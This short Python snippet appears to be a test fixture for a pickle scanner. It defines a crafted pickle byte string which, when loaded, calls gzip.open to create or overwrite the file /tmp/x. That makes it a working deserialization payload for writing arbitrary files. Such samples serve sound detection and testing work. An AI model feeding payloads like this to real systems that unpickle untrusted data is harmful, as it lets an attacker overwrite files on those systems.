"""gzip.open: writes any file."""

PAYLOAD = b"cgzip\nopen\n(V/tmp/x\nVw\ntR."
